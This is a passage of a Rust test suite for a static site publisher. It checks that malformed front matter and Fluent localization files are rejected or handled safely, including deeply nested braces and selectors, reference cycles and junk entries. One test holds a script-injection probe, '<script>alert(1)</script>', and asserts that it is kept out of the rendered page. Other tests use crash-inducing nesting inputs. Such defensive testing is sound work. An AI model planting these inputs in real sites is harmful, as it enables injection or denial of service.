        assert!(outcome.has("bad-id") && outcome.files.is_empty(), "{pipeline}");
    }
}

#[test]
fn fault_097_wrong_types() {
    for (text, line) in [
        ("+++\nheadline = 5\n+++\n\nText.\n", 2),
        ("+++\nheadline = [\"a\"]\n+++\n\nText.\n", 2),
        ("+++\nheadline = { a = 1 }\n+++\n\nText.\n", 2),
        ("+++\nheadline = \"Kites\"\ndraft = \"no\"\n+++\n\nText.\n", 3),
        ("+++\nheadline = \"Kites\"\nalt = \"x\"\n+++\n\nText.\n", 3),
        ("+++\nheadline = \"Kites\"\n[alt]\nx = 1\n+++\n\nText.\n", 4),
        ("+++\nheadline = \"Kites\"\n[messages]\nx = [1]\n+++\n\nText.\n", 4),
        ("+++\nheadline = \"Kites\"\n[section]\nnorth = 1\n+++\n\nText.\n", 4),
        ("+++\nheadline = \"Kites\"\n[section.north]\nteaser = 1\n+++\n\nText.\n", 4),
        ("---\nheadline: 5\n---\n\nText.\n", 2),
        ("---\nheadline: \"Kites\"\n\nslug: [a]\n---\n\nText.\n", 4),
        (
            "---\nheadline: \"Cerf-volant à l’été\"\nslug: 2022-07-28\nteaser: yes\ndraft: 1\n---\n\nText.\n",
            5,
        ),
        ("---\n- headline\n---\n\nText.\n", 2),
        ("---\njust text\n---\n\nText.\n", 2),
        ("---\nheadline: 99999999999999999999999\n---\n\nText.\n", 2),
    ] {
        let outcome = published(&[(EN, text)]);
        rejected(&outcome, "wrong-type", EN, line);
    }
    for meta in [
        "topics = true\n",
        "topics = [1]\n",
        "authors = 1\n",
        "sections = \"north\"\n",
        "facts = 1\n",
        "lead-image = 1\n",
        "date = 1\n",
        "placement = 1\n",
        "[placement]\nnorth = 1\n",
        "[placement.north]\nveto = \"yes\"\n",
    ] {
        let outcome = published(&[("content/kites/article.toml", meta)]);
        let line = meta.lines().count();
        rejected(&outcome, "wrong-type", "content/kites/article.toml", line);
    }
}

/// What the front matter's `[messages]` must survive as well as a catalog.
fn own_message(pattern: &str, text: &str) -> Outcome {
    let indented = pattern.replace('\\', "\\\\").replace('"', "\\\"");
    published(&[(
        EN,
        format!(
            "+++\nheadline = \"Kites\"\nslug = \"kites\"\n[messages]\nm = \"\"\"\n{indented}\"\"\"\n+++\n\n{text}\n"
        ),
    )])
}

#[test]
fn fault_098_nested_braces() {
    for depth in [33, 4_000, 100_000] {
        let deep = format!("{}\"x\"{}", "{".repeat(depth), "}".repeat(depth));
        let outcome =
            published(&[("locales/en/more.ftl", format!("nav-home = Home\ndeep = {deep}\n"))]);
        assert!(outcome.has("fluent-too-deep"), "{depth}: {}", outcome.text());
        assert!(outcome.files.contains_key(PAGE));
        for text in ["{ m }", "{ NUMBER($days) }", "Text."] {
            let outcome = own_message(&deep, text);
            assert!(!outcome.files.contains_key(PAGE) && !outcome.errors().is_empty(), "{depth}");
        }
    }
    // Not closed, hidden in texts and comments, in attributes, terms, selectors and arguments.
    let many = "{".repeat(50_000);
    for ftl in [
        format!("a = {many}"),
        format!("a = {{ \"{many}\" }}"),
        format!("# {many}\na = A"),
        format!("a = A\n    .b = {many}"),
        format!("-a = {many}"),
        format!("a = {{ $x ->\n   *[o] {many}"),
        format!("a = {{ {}", "NUMBER(".repeat(50_000)),
        format!("a = {{ {}", "-t(x: ".repeat(50_000)),
        format!("a = {}", "{ $x ->\n *[o] ".repeat(20_000)),
        format!("a =\n{}", "\n {".repeat(50_000)),
        format!("a = {{\n{}", "NUMBER(\n".repeat(50_000)),
        format!("a = {{\n{}", "-t(x: {\n".repeat(50_000)),
        format!("a = {{\n{}", "NUMBER({\r".repeat(50_000)),
        format!("a = {{ NUMBER({}) }}", "{\n\n".repeat(50_000)),
        format!("{} = x", "a".repeat(100_000)),
    ] {
        let outcome = published(&[("locales/en/more.ftl", ftl.as_str())]);
        assert!(outcome.files.contains_key(PAGE));
    }
    for text in [
        format!("{{ NUMBER({}", "{".repeat(480)),
        format!("{{ NUMBER({}{}) }}", "{".repeat(240), "}".repeat(240)),
        format!("{{ {}", "NUMBER(".repeat(60)),
    ] {
        body(&text);
    }
    let id = format!(
        "+++\nheadline = \"Kites\"\n[messages]\n\"m = {many}\\nx\" = \"y\"\nn = \"{{ m }}\"\n+++\n\n{{ n }}\n"
    );
    rejected(&published(&[(EN, id)]), "fluent-too-deep", EN, 4);
}

#[test]
fn fault_099_nested_selectors() {
    let nested = |depth: usize| {
        let mut inner = String::from("x");
        for _ in 0..depth {
            inner = format!("{{ $days ->\n*[other] {inner}\n}}");
        }
        inner
    };
    for depth in [31, 101, 1_000] {
        let outcome = published(&[(
            "locales/en/more.ftl",
            format!("deep = {}\n", nested(depth).replace('\n', "\n    ")),
        )]);
        assert_eq!(outcome.has("fluent-too-deep"), depth > 32, "{depth}: {}", outcome.text());
        own_message(&nested(depth), "{ m }");
    }
    // A hundred placeables make the formatter give up, and it panics where it does so inside of a
    // constant choice or of braces in braces.
    let hundred = "{ a }".repeat(101);
    for boom in [
        format!("{{ 1 ->\n   *[one] {hundred}\n}}"),
        format!("{{ \"x\" ->\n   *[one] {hundred}\n}}"),
        "{ { b } }".to_owned(),
        "{ $days ->\n   *[one] { { b } }\n}".to_owned(),
        format!("{{ NUMBER($days) ->\n   *[one] {hundred}\n}}"),
        format!("{{ $days ->\n   *[one] {hundred}\n}}"),
        hundred.clone(),
    ] {
        let ftl = format!(
            "a = A\nb = {hundred}\nboom = {boom}\n    .attribute = {boom}\nnav-home = {boom}\n-term = {boom}\n"
        );
        let outcome = published(&[("locales/en/more.ftl", ftl)]);
        assert!(!outcome.errors().is_empty(), "{boom}");
        for text in ["{ m }", "{ m } { NUMBER($days) }"] {
            own_message(&boom.replace("{ a }", "{ $days }").replace("{ b }", "{ $days }"), text);
        }
    }
    let mut chain: String = (0..1_000)
        .map(|ix| format!("m{ix} = {{ $days ->\n   *[other] {{ m{} }}\n}}\n", ix + 1))
        .collect();
    chain.push_str("m1000 = x\n");
    published(&[("locales/en/more.ftl", chain)]);
    let terms: String = (0..2_000).map(|ix| format!("-t{ix} = {{ -t{} }}\n", ix + 1)).collect();
    published(&[("locales/en/more.ftl", format!("{terms}a = {{ -t0 }}\n"))]);
}

#[test]
fn fault_102_cycles() {
    for ftl in [
        "nav-home = { nav-home }\n",
        "nav-home = { a }\na = { b }\nb = { nav-home }\n",
        "nav-home = { -a }\n-a = { -b }\n-b = { -a }\n",
        "nav-home = { nav-home.x }\n    .x = { nav-home }\n",
        "nav-home = { $x ->\n   *[o] { nav-home }\n}\n",
    ] {
        let outcome = published(&[("locales/en/more.ftl", ftl)]);
        assert!(outcome.has("broken-string"), "{ftl}: {}", outcome.text());
        assert!(outcome.files.contains_key(PAGE));
    }
    let outcome = own_message("{ m } { $days }", "{ m }");
    rejected(&outcome, "broken-placeable", EN, 9);
}

#[test]
fn fault_109_junk_entries() {
    let ftl = "nav-home = [Heim]\n    und Herd\njunk here\nnav-articles = All of them\n = x\n\"quoted\" = y\nfeed-title = Feed { $\nfooter-about\nbyline = Von { $authors }\n<script>alert(1)</script>\n";
    let outcome = published(&[("locales/en/more.ftl", ftl)]);
    let lines: Vec<_> = outcome
        .diagnostics
        .iter()
        .filter(|d| d.rule.code == "fluent-syntax")
        .filter_map(|d| d.location.as_ref().map(|l| l.line))
        .collect();
    for line in [3, 6, 7, 8, 10] {
        assert!(lines.contains(&line), "line {line}: {lines:?}\n{}", outcome.text());
    }
    let page = outcome.page(PAGE).expect("a page");
    assert!(
        page.contains("[Heim]\nund Herd") && page.contains("All of them"),
        "the sound entries are used"
    );
    assert!(!page.contains("alert(1)"), "{page}");
}
